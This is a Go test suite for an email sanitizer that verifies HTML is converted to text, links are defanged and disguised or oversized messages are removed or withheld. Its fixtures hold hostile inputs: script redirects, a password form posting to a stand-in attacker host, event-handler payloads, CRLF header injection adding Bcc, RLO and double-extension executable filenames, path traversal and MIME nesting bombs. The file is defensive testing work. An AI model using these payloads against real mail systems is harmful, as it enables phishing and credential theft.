package mail

import (
	"bytes"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/mugai-project/mugai/sanitizer"
)

// checkClean asserts the properties every delivered message has: it
// parses with net/mail and mime/multipart, has no text/html part and no
// "<script" anywhere in its decoded text.
func checkClean(t *testing.T, p parsed) {
	t.Helper()
	if slices.Contains(p.Types, "text/html") {
		t.Errorf("output has a text/html part: %v", p.Types)
	}
	if strings.Contains(strings.ToLower(p.Body), "<script") {
		t.Errorf("body contains <script:\n%s", p.Body)
	}
	for _, a := range p.Attachments {
		if bytes.Contains(bytes.ToLower(a.Data), []byte("<script")) {
			t.Errorf("attachment %q contains <script", a.Filename)
		}
	}
}

func TestHTMLOnlyMailActiveContent(t *testing.T) {
	const html = `<html><head><meta http-equiv="refresh" content="0;url=https://phish.example.net/login">
<style>body{background:url(https://track.example.net/bg.png)}</style>
<script>document.location='https://evil.example.net/'</script></head>
<body onload="steal()">
<p>いつもご利用ありがとうございます。</p>
<p><a href="javascript:alert(1)">こちらをクリック</a></p>
<p><a href="https://bank.example.jp/login" onclick="x()">ログイン</a></p>
<img src="https://track.example.net/open.gif?id=123" width="1" height="1">
<iframe src="https://evil.example.net/frame"></iframe>
<form action="https://evil.example.net/post"><input name="pw" type="password"></form>
<svg onload="alert(2)"><script>alert(3)</script></svg>
<img src="x" onerror="alert(4)" alt="ロゴ">
</body></html>
`
	raw := stdHeader + "MIME-Version: 1.0\r\nContent-Type: text/html; charset=UTF-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + crlf(html)
	e := newEngine(t, Options{}, sanitizer.Policy{})
	res := run(t, e, raw)
	out := delivered(t, res)
	p := parse(t, out)
	checkClean(t, p)
	text := afterNotice(t, p.Body)
	for _, bad := range []string{"javascript:", "onload", "onerror", "onclick", "steal()", "alert(", "document.location", "<iframe", "<form", "refresh", "https://"} {
		if strings.Contains(text, bad) {
			t.Errorf("body keeps %q:\n%s", bad, text)
		}
	}
	for _, want := range []string{"いつもご利用ありがとうございます。", "こちらをクリック", "ログイン <hxxps://bank[.]example[.]jp/login>"} {
		if !strings.Contains(text, want) {
			t.Errorf("body lacks %q:\n%s", want, text)
		}
	}
	if !strings.Contains(notice(t, p.Body), "・本文をテキスト化しました") {
		t.Errorf("notice lacks the HTML line:\n%s", p.Body)
	}
	notes := strings.Join(res.Report.Notes, "\n")
	for _, u := range []string{"https://bank.example.jp/login", "https://track.example.net/open.gif?id=123", "https://evil.example.net/frame"} {
		if !strings.Contains(notes, u) {
			t.Errorf("report does not list %s: %s", u, notes)
		}
	}
}

func TestAlternativeTakesPlainText(t *testing.T) {
	raw := multipartMsg(stdHeader, "alternative", "alt1",
		"Content-Type: text/plain; charset=UTF-8\r\n\r\nテキスト版の本文です。\r\n",
		"Content-Type: text/html; charset=UTF-8\r\n\r\n<p>HTML版の本文です。</p><script>x()</script>\r\n")
	e := newEngine(t, Options{}, sanitizer.Policy{})
	p := parse(t, delivered(t, run(t, e, raw)))
	checkClean(t, p)
	if got := afterNotice(t, p.Body); got != "テキスト版の本文です。\r\n" {
		t.Errorf("body = %q", got)
	}
	if !strings.Contains(notice(t, p.Body), "本文のHTML版を削除し、テキスト版を残しました") {
		t.Errorf("notice:\n%s", p.Body)
	}
}

func TestAlternativeEmptyPlainTakesHTML(t *testing.T) {
	raw := multipartMsg(stdHeader, "alternative", "alt1",
		"Content-Type: text/plain; charset=UTF-8\r\n\r\n \r\n",
		"Content-Type: text/html; charset=UTF-8\r\n\r\n<p>HTML版の本文です。</p>\r\n")
	e := newEngine(t, Options{}, sanitizer.Policy{})
	p := parse(t, delivered(t, run(t, e, raw)))
	checkClean(t, p)
	if got := afterNotice(t, p.Body); got != "HTML版の本文です。\r\n" {
		t.Errorf("body = %q", got)
	}
}

// nested wraps a text part in n levels of multipart/mixed.
func nested(n int) string {
	var b strings.Builder
	for i := 1; i <= n; i++ {
		fmt.Fprintf(&b, "Content-Type: multipart/mixed; boundary=\"b%d\"\r\n\r\n--b%d\r\n", i, i)
	}
	b.WriteString("Content-Type: text/plain\r\n\r\ndeep\r\n")
	for i := n; i >= 1; i-- {
		fmt.Fprintf(&b, "\r\n--b%d--\r\n", i)
	}
	return b.String()
}

func TestDeepMIMENestingIsWithheld(t *testing.T) {
	for _, depth := range []int{60, 10000} {
		t.Run(fmt.Sprint(depth), func(t *testing.T) {
			raw := stdHeader + "MIME-Version: 1.0\r\n" + nested(depth)
			e := newEngine(t, Options{}, sanitizer.Policy{})
			res := run(t, e, raw)
			if !res.Report.Withheld || len(res.Outputs) != 0 {
				t.Fatalf("not withheld: %+v", res.Report)
			}
			if got := res.Report.Reasons[0].Code; got != sanitizer.ReasonDepth {
				t.Errorf("reason %s, want %s", got, sanitizer.ReasonDepth)
			}
			t.Logf("%d levels (%d bytes) withheld in %.1f ms", depth, len(raw), res.Report.Timings.Total)
		})
	}
}

func TestNestingWithinLimitIsDelivered(t *testing.T) {
	raw := stdHeader + "MIME-Version: 1.0\r\n" + nested(19)
	e := newEngine(t, Options{}, sanitizer.Policy{})
	p := parse(t, delivered(t, run(t, e, raw)))
	if got := afterNotice(t, p.Body); got != "deep\r\n" {
		t.Errorf("body = %q", got)
	}
}

func TestPartCountLimit(t *testing.T) {
	var parts []string
	for i := 0; i < 600; i++ {
		parts = append(parts, "Content-Type: text/plain\r\n\r\nx\r\n")
	}
	e := newEngine(t, Options{}, sanitizer.Policy{})
	res := run(t, e, multipartMsg(stdHeader, "mixed", "b", parts...))
	if !res.Report.Withheld || res.Report.Reasons[0].Code != sanitizer.ReasonLimit {
		t.Fatalf("600 parts: %+v", res.Report.Reasons)
	}
}

func TestTenThousandHeaders(t *testing.T) {
	var b strings.Builder
	b.WriteString(stdHeader)
	for i := 0; i < 10000; i++ {
		fmt.Fprintf(&b, "X-Filler-%d: %d\r\n", i, i)
	}
	b.WriteString("\r\nbody\r\n")
	e := newEngine(t, Options{}, sanitizer.Policy{})
	res := run(t, e, b.String())
	if !res.Report.Withheld || res.Report.Reasons[0].Code != sanitizer.ReasonLimit {
		t.Fatalf("10,000 headers: %+v", res.Report.Reasons)
	}
}

func TestPartHeaderBomb(t *testing.T) {
	var h strings.Builder
	for h.Len() < 2<<20 {
		h.WriteString("X-Bomb: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n")
	}
	raw := multipartMsg(stdHeader, "mixed", "b", "Content-Type: text/plain\r\n\r\nhello\r\n", h.String()+"Content-Type: text/plain\r\n\r\nx\r\n")
	e := newEngine(t, Options{}, sanitizer.Policy{})
	res := run(t, e, raw)
	if !res.Report.Withheld || res.Report.Reasons[0].Code != sanitizer.ReasonLimit {
		t.Fatalf("2 MiB part header: %+v", res.Report.Reasons)
	}
}

func TestBrokenBoundaries(t *testing.T) {
	tests := []struct {
		name, raw, want string
	}{
		{
			name: "no closing boundary",
			raw:  stdHeader + "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n本文です。\r\n",
			want: "本文です。\r\n",
		},
		{
			name: "boundary parameter missing",
			raw:  stdHeader + "MIME-Version: 1.0\r\nContent-Type: multipart/mixed\r\n\r\n--zzz\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\n本文です。\r\n--zzz--\r\n",
			want: "本文です。\r\n",
		},
		{
			name: "boundary with trailing blanks and garbage epilogue",
			raw:  stdHeader + "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\npreamble " + strings.Repeat("p", 10000) + "\r\n--b  \r\nContent-Type: text/plain; charset=UTF-8\r\n\r\n本文です。\r\n--b--\r\n--b\r\nContent-Type: text/html\r\n\r\n<script>x</script>\r\n",
			want: "本文です。\r\n",
		},
		{
			name: "malformed part header line",
			raw:  stdHeader + "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain; charset=UTF-8\r\nthis is not a header\r\n本文です。\r\n--b--\r\n",
			want: "this is not a header\r\n本文です。\r\n",
		},
	}
	e := newEngine(t, Options{}, sanitizer.Policy{})
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := parse(t, delivered(t, run(t, e, tt.raw)))
			checkClean(t, p)
			if got := afterNotice(t, p.Body); got != tt.want {
				t.Errorf("body = %q, want %q", got, tt.want)
			}
		})
	}
}

func TestContentTypeLies(t *testing.T) {
	raw := multipartMsg(stdHeader, "mixed", "b",
		"Content-Type: text/plain; charset=UTF-8\r\n\r\n添付をご確認ください。\r\n",
		"Content-Type: image/jpeg; name=\"photo.jpg\"\r\nContent-Disposition: inline; filename=\"photo.jpg\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"+b64lines(fakeEXE),
		"Content-Type: application/pdf; name=\"memo.pdf\"\r\nContent-Disposition: attachment; filename=\"memo.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"+b64lines([]byte("これはPDFではなくテキストです。\r\n")),
	)
	e := newEngine(t, Options{}, sanitizer.Policy{})
	res := run(t, e, raw)
	p := parse(t, delivered(t, res))
	checkClean(t, p)
	if len(p.Attachments) != 1 {
		t.Fatalf("attachments: %+v", p.Attachments)
	}
	a := p.Attachments[0]
	if a.Type != "text/plain" || a.Filename != "memo.txt" || !strings.Contains(string(a.Data), "これはPDFではなくテキストです。") {
		t.Errorf("memo.pdf (text) attached as %s %q %q", a.Type, a.Filename, a.Data)
	}
	n := notice(t, p.Body)
	if !strings.Contains(n, "添付ファイル「photo.jpg」(実行ファイル) を削除しました") {
		t.Errorf("notice does not say the executable was removed:\n%s", n)
	}
}

func TestAttachmentNameTricks(t *testing.T) {
	tests := []struct {
		name, disposition string
		content           []byte
		wantFile          string // "" when the attachment must be removed
		wantNotice        string
	}{
		// Text under a name Windows runs is removed: the name is what the
		// recipient's PC acts on.
		{"RLO", "attachment; filename=\"invoice\u202Etxt.exe\"", []byte("請求書の本文\r\n"), "", "添付ファイル「invoicetxt.exe」(実行ファイル) を削除しました"},
		{"double extension", "attachment; filename=\"report.pdf.exe\"", fakeEXE, "", "添付ファイル「report.pdf.exe」(実行ファイル) を削除しました"},
		{"path traversal", "attachment; filename=\"../../etc/passwd\"", []byte("root:x:0:0\r\n"), "passwd.txt", "添付ファイル「passwd」"},
		{"RFC 2231 Japanese name", "attachment; filename*=UTF-8''%E8%A6%8B%E7%A9%8D%E6%9B%B8.txt", []byte("見積金額 10,000円\r\n"), "見積書.txt", "添付ファイル「見積書.txt」をテキストとして作り直しました"},
		{"RFC 2231 continuations in Shift_JIS", "attachment; filename*0*=shift_jis''%8C%A9%90%CF; filename*1*=%8F%91.txt", []byte("x\r\n"), "見積書.txt", "添付ファイル「見積書.txt」"},
		{"RFC 2047 quoted name", "attachment; filename=\"=?ISO-2022-JP?B?GyRCOCtAUT1xGyhC?=.txt\"", []byte("x\r\n"), "見積書.txt", "添付ファイル「見積書.txt」"},
	}
	e := newEngine(t, Options{}, sanitizer.Policy{})
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			raw := multipartMsg(stdHeader, "mixed", "b",
				"Content-Type: text/plain; charset=UTF-8\r\n\r\n本文\r\n",
				"Content-Type: application/octet-stream\r\nContent-Disposition: "+tt.disposition+"\r\nContent-Transfer-Encoding: base64\r\n\r\n"+b64lines(tt.content))
			p := parse(t, delivered(t, run(t, e, raw)))
			checkClean(t, p)
			if tt.wantFile == "" {
				if len(p.Attachments) != 0 {
					t.Errorf("attachment kept: %+v", p.Attachments)
				}
			} else if len(p.Attachments) != 1 || p.Attachments[0].Filename != tt.wantFile {
				t.Errorf("attachments %+v, want one named %q", p.Attachments, tt.wantFile)
			}
			if n := notice(t, p.Body); !strings.Contains(n, tt.wantNotice) {
				t.Errorf("notice lacks %q:\n%s", tt.wantNotice, n)
			}
		})
	}
}

func TestForwardedMessageCarryingHTML(t *testing.T) {
	inner := "From: a@example.net\r\nTo: b@example.org\r\nSubject: =?UTF-8?B?" + b64s("転送元の件名") + "?=\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=UTF-8\r\n\r\n<p>転送された本文</p><script>alert(1)</script><img src=x onerror=alert(2)>\r\n"
	raw := multipartMsg(stdHeader, "mixed", "b",
		"Content-Type: text/plain; charset=UTF-8\r\n\r\n転送します。\r\n",
		"Content-Type: message/rfc822\r\nContent-Disposition: attachment; filename=\"fwd.eml\"\r\n\r\n"+inner)
	e := newEngine(t, Options{}, sanitizer.Policy{})
	p := parse(t, delivered(t, run(t, e, raw)))
	checkClean(t, p)
	if len(p.Attachments) != 1 || p.Attachments[0].Type != "message/rfc822" {
		t.Fatalf("attachments %+v", p.Attachments)
	}
	ip := parse(t, p.Attachments[0].Data)
	checkClean(t, ip)
	if ip.Subject != "転送元の件名" {
		t.Errorf("inner subject %q", ip.Subject)
	}
	if got := afterNotice(t, ip.Body); got != "転送された本文\r\n" {
		t.Errorf("inner body %q", got)
	}
}

func TestHeaderInjectionInEncodedWords(t *testing.T) {
	raw := "From: =?UTF-8?Q?Evil=0D=0ABcc:_victim@example.com=0D=0A?= <evil@example.com>\r\n" +
		"To: staff@example.lg.jp\r\n" +
		"Subject: =?UTF-8?Q?hello=0D=0ABcc:_victim@example.com=0D=0A=0D=0A<script>x</script>?=\r\n" +
		"Content-Type: text/plain\r\n\r\nbody\r\n"
	e := newEngine(t, Options{}, sanitizer.Policy{})
	out := delivered(t, run(t, e, raw))
	p := parse(t, out)
	if p.Header.Get("Bcc") != "" {
		t.Errorf("injected Bcc header: %q", p.Header.Get("Bcc"))
	}
	if strings.ContainsAny(p.Subject, "\r\n") {
		t.Errorf("subject carries a line break: %q", p.Subject)
	}
	if p.Subject != "hello Bcc: victim@example.com ＜script>x＜/script>" {
		t.Errorf("subject = %q", p.Subject)
	}
	from, err := p.Header.AddressList("From")
	if err != nil || len(from) != 1 || from[0].Address != "evil@example.com" || from[0].Name != "Evil Bcc: victim@example.com" {
		t.Errorf("From = %+v, %v", from, err)
	}
}

func TestDropsHeadersClientsActOn(t *testing.T) {
	raw := "Received: from mx.example.com by gw.example.lg.jp; Tue, 24 Nov 2026 10:00:01 +0900\r\n" +
		"Received: from sender.example.com by mx.example.com; Tue, 24 Nov 2026 10:00:00 +0900\r\n" +
		stdHeader +
		"In-Reply-To: <parent@example.com>\r\nReferences: <root@example.com>\r\n <parent@example.com>\r\n" +
		"Disposition-Notification-To: sender@example.com\r\nList-Unsubscribe-Post: List-Unsubscribe=One-Click\r\n" +
		"List-Unsubscribe: <https://example.com/u>\r\nX-Custom: 1\r\nReturn-Path: <bounce@example.com>\r\nBcc: hidden@example.com\r\n" +
		"Content-Type: text/plain\r\n\r\nbody\r\n"
	e := newEngine(t, Options{}, sanitizer.Policy{})
	p := parse(t, delivered(t, run(t, e, raw)))
	for _, h := range []string{"Disposition-Notification-To", "List-Unsubscribe-Post", "List-Unsubscribe", "X-Custom", "Return-Path", "Bcc"} {
		if v := p.Header.Get(h); v != "" {
			t.Errorf("%s kept: %q", h, v)
		}
	}
	for h, want := range map[string]string{
		"Message-Id":  "<fixture@example.com>",
		"In-Reply-To": "<parent@example.com>",
		"References":  "<root@example.com> <parent@example.com>",
		"Date":        "Tue, 24 Nov 2026 10:00:00 +0900",
	} {
		if got := p.Header.Get(h); got != want {
			t.Errorf("%s = %q, want %q", h, got, want)
		}
	}
	if got := p.Header["Received"]; len(got) != 2 || !strings.HasPrefix(got[0], "from mx.example.com") {
		t.Errorf("Received = %q", got)
	}
	if !strings.HasPrefix(p.Header.Get("X-Mugai-Sanitized"), "sha256:") && !strings.Contains(p.Header.Get("X-Mugai-Sanitized"), ";") {
		t.Errorf("X-Mugai-Sanitized = %q", p.Header.Get("X-Mugai-Sanitized"))
	}
	if !strings.Contains(notice(t, p.Body), "開封確認の要求を削除しました") {
		t.Errorf("notice:\n%s", p.Body)
	}
}

func TestBareLFAndDotLine(t *testing.T) {
	raw := strings.ReplaceAll(stdHeader, "\r\n", "\n") + "Content-Type: text/plain; charset=UTF-8\n\nline1\n.\r\nline3\r\n.\nend\n"
	e := newEngine(t, Options{}, sanitizer.Policy{})
	out := delivered(t, run(t, e, raw))
	if bytes.Contains(bytes.ReplaceAll(out, []byte("\r\n"), nil), []byte("\n")) || bytes.Contains(bytes.ReplaceAll(out, []byte("\r\n"), nil), []byte("\r")) {
		t.Errorf("output has a bare LF or CR")
	}
	p := parse(t, out)
	if got := afterNotice(t, p.Body); got != "line1\r\n.\r\nline3\r\n.\r\nend\r\n" {
		t.Errorf("body = %q", got)
	}
}

func TestBareLFMultipart(t *testing.T) {
	raw := strings.ReplaceAll(multipartMsg(stdHeader, "mixed", "b",
		"Content-Type: text/plain; charset=UTF-8\r\n\r\n本文\r\n.\r\n",
		"Content-Type: text/plain; name=\"a.txt\"\r\n\r\n添付\r\n"), "\r\n", "\n")
	e := newEngine(t, Options{}, sanitizer.Policy{})
	p := parse(t, delivered(t, run(t, e, raw)))
	if got := afterNotice(t, p.Body); got != "本文\r\n.\r\n" {
		t.Errorf("body = %q", got)
	}
	if len(p.Attachments) != 1 || p.Attachments[0].Filename != "a.txt" {
		t.Errorf("attachments %+v", p.Attachments)
	}
}

func TestMboxFromLineAndMalformedHeader(t *testing.T) {
	raw := "From sender@example.com Tue Nov 24 10:00:00 2026\n" + strings.ReplaceAll(stdHeader, "\r\n", "\n") +
		"Content-Type: text/plain; charset=UTF-8\nthis line is not a header\n\n本文\n"
	e := newEngine(t, Options{}, sanitizer.Policy{})
	res := run(t, e, raw)
	p := parse(t, delivered(t, res))
	if p.Subject != "test" {
		t.Errorf("subject %q", p.Subject)
	}
	if got := afterNotice(t, p.Body); got != "this line is not a header\r\n\r\n本文\r\n" {
		t.Errorf("body = %q", got)
	}
	var codes []string
	for _, f := range res.Report.Findings {
		codes = append(codes, f.Code)
	}
	if !slices.Contains(codes, "mail-mbox-from-line") || !slices.Contains(codes, "mail-malformed-header") {
		t.Errorf("findings %v", codes)
	}
}

func TestNULBytes(t *testing.T) {
	// A raw NUL makes the detector refuse the whole input as not text;
	// NULs that decoding reveals are removed.
	raw := stdHeader + "Content-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nab=00cd\r\n"
	e := newEngine(t, Options{}, sanitizer.Policy{})
	p := parse(t, delivered(t, run(t, e, raw)))
	if got := afterNotice(t, p.Body); got != "abcd\r\n" {
		t.Errorf("body = %q", got)
	}
}

func TestEncryptedMessageIsHeld(t *testing.T) {
	for _, ct := range []string{
		"multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b",
		"application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m",
	} {
		t.Run(ct, func(t *testing.T) {
			raw := stdHeader + "MIME-Version: 1.0\r\nContent-Type: " + ct + "\r\n\r\n--b\r\nContent-Type: application/octet-stream\r\n\r\nxxxx\r\n--b--\r\n"
			e := newEngine(t, Options{}, sanitizer.Policy{})
			res := run(t, e, raw)
			if !res.Report.Withheld || res.Report.Action != sanitizer.Hold || res.Report.Reasons[0].Code != sanitizer.ReasonEncrypted {
				t.Errorf("report %+v", res.Report)
			}
		})
	}
}

func TestSignatureRemoved(t *testing.T) {
	signed := "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; boundary=s\r\n\r\n" +
		"--s\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\n署名付きの本文\r\n--s\r\n" +
		"Content-Type: application/pkcs7-signature; name=smime.p7s\r\nContent-Transfer-Encoding: base64\r\n\r\nMIAGCSqGSIb3DQEHAqCAMIACAQEx\r\n--s--\r\n"
	raw := stdHeader + "MIME-Version: 1.0\r\n" + signed
	e := newEngine(t, Options{}, sanitizer.Policy{})
	res := run(t, e, raw)
	p := parse(t, delivered(t, res))
	if len(p.Attachments) != 0 {
		t.Errorf("signature attached: %+v", p.Attachments)
	}
	if got := afterNotice(t, p.Body); got != "署名付きの本文\r\n" {
		t.Errorf("body %q", got)
	}
	if !strings.Contains(notice(t, p.Body), "電子署名（S/MIME）を削除しました") {
		t.Errorf("notice:\n%s", p.Body)
	}
}

func TestInlineImagesDropped(t *testing.T) {
	related := "Content-Type: multipart/related; boundary=r\r\n\r\n--r\r\nContent-Type: text/html; charset=UTF-8\r\n\r\n<p>画像つき</p><img src=\"cid:img1@x\" alt=\"地図\">\r\n" +
		"--r\r\nContent-Type: image/png\r\nContent-ID: <img1@x>\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64lines(tinyPNG(t)) + "--r--\r\n"
	raw := stdHeader + "MIME-Version: 1.0\r\n" + related
	e := newEngine(t, Options{}, sanitizer.Policy{})
	res := run(t, e, raw)
	p := parse(t, delivered(t, res))
	checkClean(t, p)
	if len(p.Attachments) != 0 {
		t.Errorf("inline image attached: %+v", p.Attachments)
	}
	if !strings.Contains(notice(t, p.Body), "本文中の画像（1件）を削除しました") {
		t.Errorf("notice:\n%s", p.Body)
	}
	if got := afterNotice(t, p.Body); !strings.Contains(got, "画像つき") || !strings.Contains(got, "地図") {
		t.Errorf("body %q", got)
	}
}

func TestImageAttachmentReencoded(t *testing.T) {
	raw := multipartMsg(stdHeader, "mixed", "b",
		"Content-Type: text/plain; charset=UTF-8\r\n\r\n写真です\r\n",
		"Content-Type: image/png; name=\"写真.png\"\r\nContent-Disposition: attachment; filename=\"=?UTF-8?B?"+b64s("写真.png")+"?=\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"+b64lines(tinyPNG(t)))
	e := newEngine(t, Options{}, sanitizer.Policy{})
	p := parse(t, delivered(t, run(t, e, raw)))
	if len(p.Attachments) != 1 || p.Attachments[0].Type != "image/png" || p.Attachments[0].Filename != "写真.png" {
		t.Fatalf("attachments %+v", p.Attachments)
	}
}

func TestLinksPolicy(t *testing.T) {
	body := "詳細は https://www.example.jp/info?id=1 をご覧ください。\r\nhttp://example.com/a.\r\n"
	tests := []struct {
		links, want string
		listed      bool
	}{
		{LinksKeep, "詳細は https://www.example.jp/info?id=1 をご覧ください。\r\nhttp://example.com/a.\r\n", false},
		{LinksDefang, "詳細は hxxps://www[.]example[.]jp/info?id=1 をご覧ください。\r\nhxxp://example[.]com/a.\r\n", false},
		{LinksRemove, "詳細は [リンク削除] をご覧ください。\r\n[リンク削除].\r\n", true},
	}
	for _, tt := range tests {
		t.Run(tt.links, func(t *testing.T) {
			e := newEngine(t, Options{Links: tt.links}, sanitizer.Policy{})
			res := run(t, e, stdHeader+"Content-Type: text/plain; charset=UTF-8\r\n\r\n"+body)
			p := parse(t, delivered(t, res))
			if got := afterNotice(t, p.Body); got != tt.want {
				t.Errorf("body = %q, want %q", got, tt.want)
			}
			n := notice(t, p.Body)
			if listed := strings.Contains(n, "hxxps://www[.]example[.]jp/info?id=1"); listed != tt.listed {
				t.Errorf("URL listed in the notice: %v, want %v\n%s", listed, tt.listed, n)
			}
			if !strings.Contains(strings.Join(res.Report.Notes, " "), "https://www.example.jp/info?id=1") {
				t.Errorf("URL not in the report: %v", res.Report.Notes)
			}
		})
	}
}

func TestISO2022JPOutput(t *testing.T) {
	tests := []struct {
		name, body, charset string
	}{
		{"fits", "会議のお知らせです。\r\n", "iso-2022-jp"},
		{"half-width kana falls back", "ｶﾀｶﾅ\r\n", "utf-8"},
		{"outside JIS X 0208 falls back", "𠮷野家\r\n", "utf-8"},
	}
	e := newEngine(t, Options{Charset: "ISO-2022-JP"}, sanitizer.Policy{})
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out := delivered(t, run(t, e, stdHeader+"Content-Type: text/plain; charset=UTF-8\r\n\r\n"+tt.body))
			if !bytes.Contains(bytes.ToLower(out), []byte("charset="+tt.charset)) {
				t.Errorf("charset is not %s:\n%s", tt.charset, out)
			}
			if err := VerifyMessage(t.Context(), bytes.NewReader(out), int64(len(out))); err != nil {
				t.Error(err)
			}
		})
	}
}

func TestNoticeTemplate(t *testing.T) {
	tmpl := "[sanitized {{.ID}}]\n{{range .Lines}}- {{.En}}\n{{end}}" + strings.TrimSuffix(noticeRule, "\r\n") + "\n"
	e := newEngine(t, Options{NoticeTemplate: "━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━\n" + tmpl}, sanitizer.Policy{})
	p := parse(t, delivered(t, run(t, e, stdHeader+"Content-Type: text/html\r\n\r\n<p>x</p>\r\n")))
	n := notice(t, p.Body)
	if !strings.Contains(n, "[sanitized ") || !strings.Contains(n, "- The HTML body was converted to plain text") {
		t.Errorf("notice:\n%s", n)
	}
}

func TestHeaderLinesFolded(t *testing.T) {
	long := strings.Repeat("長い件名", 40)
	raw := "From: " + strings.Repeat("\"名前\" <a@example.com>, ", 20) + "b@example.com\r\nSubject: " + bword("UTF-8", long) + "\r\nContent-Type: text/plain\r\n\r\nx\r\n"
	e := newEngine(t, Options{}, sanitizer.Policy{})
	out := delivered(t, run(t, e, raw))
	head, _, _ := bytes.Cut(out, []byte("\r\n\r\n"))
	for _, l := range strings.Split(string(head), "\r\n") {
		if len(l) > 78 {
			t.Errorf("header line of %d columns: %q", len(l), l)
		}
	}
	p := parse(t, out)
	if p.Subject != long {
		t.Errorf("subject = %q", p.Subject)
	}
	if from, err := p.Header.AddressList("From"); err != nil || len(from) != 21 || from[0].Name != "名前" {
		t.Errorf("From = %v, %v", from, err)
	}
}

// TestFoldedHeadersKeepTheirText: a Received: header folded with TABs,
// as every MTA writes it, comes out with spaces, not replaced bytes.
func TestFoldedHeadersKeepTheirText(t *testing.T) {
	msg := "Received: from a.example (a.example [192.0.2.1])\r\n\tby mx.example with ESMTP id 123;\r\n\tWed, 25 Nov 2026 10:00:00 +0900\r\n" +
		"Date: Wed,\r\n\t25 Nov 2026 10:00:00 +0900\r\nFrom: a@example.jp\r\nTo: b@example.lg.jp\r\nSubject: hi\r\n\r\nhello\r\n"
	e := newEngine(t, Options{}, sanitizer.Policy{})
	out := string(delivered(t, run(t, e, msg)))
	for _, want := range []string{"(a.example [192.0.2.1]) by mx.example with ESMTP", "Wed, 25 Nov 2026 10:00:00 +0900"} {
		if !strings.Contains(strings.ReplaceAll(out, "\r\n ", " "), want) {
			t.Errorf("output lacks %q:\n%s", want, out)
		}
	}
}

// TestActiveTagsInPlainTextDefanged: a text/plain body (not HTML to the
// detector) that spells the start of an active element has its "<"
// replaced, so no reader can take it for markup.
func TestActiveTagsInPlainTextDefanged(t *testing.T) {
	msg := stdHeader + "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\n" +
		"料金表は下記です。\r\n<base href=\"https://evil.invalid/\">\r\n< iframe\r\n1 < 2 は正しい\r\n<!DOCTYPE x>\r\nJavaScript:alert(1)\r\n"
	e := newEngine(t, Options{}, sanitizer.Policy{})
	p := parse(t, delivered(t, run(t, e, msg)))
	body := afterNotice(t, p.Body)
	for _, bad := range []string{"<base", "< iframe", "<!DOCTYPE", "JavaScript:"} {
		if strings.Contains(body, bad) {
			t.Errorf("body keeps %q:\n%s", bad, body)
		}
	}
	for _, want := range []string{"料金表は下記です。", "＜base href=", "1 < 2 は正しい", "JavaScript[:]alert(1)"} {
		if !strings.Contains(body, want) {
			t.Errorf("body lacks %q:\n%s", want, body)
		}
	}
}

// TestNoticeSaysWhatANameHid: the notice names an attachment by its
// cleaned name and says what the declared name hid.
func TestNoticeSaysWhatANameHid(t *testing.T) {
	e := newEngine(t, Options{}, sanitizer.Policy{})
	for _, tt := range []struct{ disposition, want string }{
		{"attachment; filename=\"請求書\u202Efdp.txt\"", "添付ファイル「請求書fdp.txt」の名前には表示を偽装する制御文字（RLOなど）が含まれていました"},
		{"attachment; filename*=UTF-8''invoice.txt.%20.%20.", "添付ファイル「invoice.txt. . .」の名前の末尾に点や空白がありました"},
	} {
		raw := multipartMsg(stdHeader, "mixed", "b",
			"Content-Type: text/plain; charset=UTF-8\r\n\r\n本文\r\n",
			"Content-Type: text/plain\r\nContent-Disposition: "+tt.disposition+"\r\nContent-Transfer-Encoding: base64\r\n\r\n"+b64lines([]byte("見積金額 10,000円\r\n")))
		p := parse(t, delivered(t, run(t, e, raw)))
		if n := notice(t, p.Body); !strings.Contains(n, tt.want) {
			t.Errorf("notice lacks %q:\n%s", tt.want, n)
		}
	}
}
